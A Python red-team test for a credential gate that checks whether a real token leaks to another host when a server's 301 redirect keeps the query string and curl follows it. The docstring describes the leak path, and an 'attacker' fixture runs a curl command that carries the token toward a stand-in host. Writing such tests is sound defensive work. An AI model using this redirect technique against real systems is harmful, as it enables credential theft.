"""Red team 13: the real token leaves to a host that is not the credential's, through the
credential host's own redirect.

A server that moved (`return 301 https://new.example$request_uri`, the everyday nginx line) or
hands downloads to another host redirects with the request's query kept. The gate swapped the
real value into the token-named query parameter; the Location names another host with the
real token in it; the client follows (curl -L, every HTTP library by default) and sends the
real token there. The gate looks only for placeholders on requests to other hosts, never for
the real values it has handed out, so nothing is denied or marked. The second server's record
is the oracle."""

import shutil

import pytest

from gatekit import hostport, netproject, servers
from harness import CANARY, attacker  # noqa: F401  (the fixture)

pytestmark = pytest.mark.skipif(shutil.which("socat") is None, reason="socat is not installed")


def test_the_real_token_does_not_follow_a_redirect_to_another_host(attacker):
    moved_to = {}

    def app(method, path, headers, body):
        if headers.get("host", "").startswith("api.github.com"):   # moved: same path and query
            return 301, {"Location": moved_to["url"] + path, "Content-Type": "text/plain"}, b""
        return 200, {"Content-Type": "text/plain"}, b"ok\n"

    with servers(app) as (git, stub):
        moved_to["url"] = f"https://{hostport(stub, 'stub.example.test')}"
        attacker.env["MY_TOKEN"] = CANARY
        api = hostport(stub, "api.github.com")
        netproject(attacker, git, stub,
                   f"credentials:\n  tok:\n    from: {{ env: MY_TOKEN }}\n    hosts: [\"{api}\"]\n")
        attacker.run(f"curl -s -L -o /dev/null \"https://{api}/repos/o/r?access_token=$MY_TOKEN\"")
        assert [q for q in stub.requests if q["headers"].get("host", "").startswith("api.github.com")], \
            "the credential's host was not reached"
        elsewhere = [q for q in stub.requests if q["headers"].get("host", "").startswith("stub.example.test")
                     and CANARY in q["path"]]
        assert not elsewhere, f"the real token reached stub.example.test: {elsewhere[0]['path']}"
